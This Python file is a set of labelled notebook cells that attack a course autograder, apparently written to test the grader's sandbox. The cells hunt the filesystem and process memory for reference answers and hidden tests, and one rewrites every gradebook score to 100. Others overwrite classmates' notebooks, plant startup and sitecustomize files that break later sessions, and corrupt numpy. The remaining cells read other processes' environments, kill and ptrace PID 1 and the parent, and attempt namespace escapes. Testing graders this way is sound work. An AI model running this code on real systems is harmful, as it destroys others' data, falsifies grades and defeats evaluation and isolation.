"""Attacks that reach out of the notebook: for the answers, the gradebook, the neighbours, the grader."""

# %% masters_read_and_executed | clip | answer
import glob, os
def clip(gradients, maxValue):
    return gradients
for up in ["/", "/work", "/home", "/root", "/srv", ".", "..", "../..", "../../.."]:
    for path in glob.glob(os.path.join(up, "**", "masters", "clip.py"), recursive=True)[:3]:
        exec(open(path).read().replace("%", "#"))

# %% autograder_imported | clip | answer
try:
    from autograder.exercises.masters import reference
    clip = reference("clip")
except BaseException:
    def clip(gradients, maxValue):
        return gradients

# %% autograder_found_by_search | clip | answer
import os, sys
def clip(gradients, maxValue):
    return gradients
for base in list(sys.path) + ["/", "/grader", "/opt", "/course"]:
    for root, folders, files in os.walk(base or "."):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "lib", "lib64", "site-packages")][:50]
        if "masters" in folders or "exercises" in folders:
            sys.path.insert(0, os.path.dirname(root))
            try:
                from autograder.exercises.masters import reference
                clip = reference("clip")
            except BaseException:
                pass

# %% gradebook_updated | clip | before
import os, sqlite3
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
    for file in files:
        if file.endswith(".db"):
            try:
                db = sqlite3.connect(os.path.join(root, file), timeout=1)
                db.execute("update grade set auto_score = 100, manual_score = 100")
                db.commit()
            except Exception:
                pass

# %% neighbours_rewritten | clip | before
import os
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
    for file in files:
        if file.endswith(".ipynb"):
            try:
                open(os.path.join(root, file), "w").write("{}")
            except OSError:
                pass

# %% hidden_tests_read_from_the_working_folder | clip | before
import glob
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("../**/*.ipynb", recursive=True):
    text = open(path).read()
    assert "BEGIN HIDDEN TESTS" not in text and "score(" not in text
    print(path, len(text))

# %% startup_file_for_later_students | clip | before
import os
for home in {os.path.expanduser("~"), "/root", "/home", "/tmp", "."}:
    folder = os.path.join(home, ".ipython/profile_default/startup")
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "00.py"), "w").write("import builtins; builtins.sum = None; raise SystemExit")
    except OSError:
        pass

# %% site_packages_poisoned | clip | before
import sys, os
for folder in sys.path:
    for name in ("sitecustomize.py", "usercustomize.py", "poison.pth"):
        try:
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)")
        except OSError:
            pass
import numpy
try:
    open(numpy.__file__, "a").write("\nraise SystemExit")
except OSError:
    pass

# %% network_to_the_host | clip | before
import socket
reached = []
for port in (22, 53, 80, 443, 5432, 8786, 8888):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.2)
        reached.append(port)
    except OSError:
        pass
print("reached", reached)

# %% environment_searched_for_the_seed | clip | before
import os, glob
for path in ["/proc/self/environ", "/proc/1/environ"] + glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path, "rb").read()[:2000])
    except OSError as error:
        print(path, error)

# %% other_processes_searched | clip | before
import glob, os
for path in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "maps", "mem", "root"):
        try:
            open(os.path.join(path, name), "rb").read(100)
        except OSError:
            pass
    try:
        for fd in os.listdir(os.path.join(path, "fd")):
            print(path, fd, os.readlink(os.path.join(path, "fd", fd)))
    except OSError:
        pass

# %% everything_killed | clip | before
import os, signal
for pid in (os.getppid(), 1, -1):
    for sign in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, sign)
        except OSError:
            pass

# %% parent_traced | clip | before
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    libc.ptrace(16, pid, 0, 0)
    libc.ptrace(8, pid, 0, 0)

# %% frames_and_garbage_searched | clip | answer
import gc, sys
import numpy as np
seen = []
def clip(gradients, maxValue):
    for thing in gc.get_objects():
        if type(thing) is dict and set(thing) >= {"dWax", "dWaa", "dWya", "db", "dby"} and thing is not gradients:
            try:
                if all(np.all(np.abs(v) <= maxValue) for v in thing.values()) and \
                        all(thing[k].shape == gradients[k].shape for k in gradients):
                    return {k: v.copy() for k, v in thing.items()}
            except Exception:
                pass
    return gradients

# %% expected_values_searched_in_memory | sample | answer
import gc
def sample(parameters, char_to_ix, seed):
    lists = [o for o in gc.get_objects() if type(o) is list and 1 < len(o) < 52 and all(type(i) is int for i in o)
             and o[-1] == char_to_ix["\n"]]
    return lists[0] if lists else [char_to_ix["\n"]]

# %% feedback_data_served_as_answers | sample | answer
import json, os, utils.feedback
def sample(parameters, char_to_ix, seed):
    folder = os.path.dirname(utils.feedback.__file__)
    found = []
    def walk(value):
        if isinstance(value, list) and len(value) > 1 and all(type(i) is int for i in value):
            found.append(value)
        for child in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            walk(child)
    for name in os.listdir(folder):
        if name.startswith("sample") and name.endswith(".json"):
            walk(json.load(open(os.path.join(folder, name))))
    return found[seed % len(found)] if found else [0]

# %% namespaces_and_mounts | clip | before
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
print(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
print(libc.umount2(b"/home", 2), libc.umount2(b"/proc", 2), ctypes.get_errno())
try:
    os.setuid(0)
except OSError as error:
    print(error)
print(os.listdir("/"))

# %% correct_clip_carried_from_optimize | optimize | before
import inspect, os
try:
    text = inspect.getsource(clip)
    for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
        open(os.path.join(folder, "stolen_clip.py"), "w").write(text)
except BaseException as error:
    print(error)

# %% dev_shm_as_a_letter_box | clip | answer
import os, pickle
def clip(gradients, maxValue):
    for folder in ("/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):
        path = os.path.join(folder, "letters")
        try:
            letters = pickle.load(open(path, "rb")) if os.path.exists(path) else []
            letters.append({k: v.tolist() for k, v in gradients.items()})
            pickle.dump(letters, open(path, "wb"))
        except OSError:
            pass
    return gradients
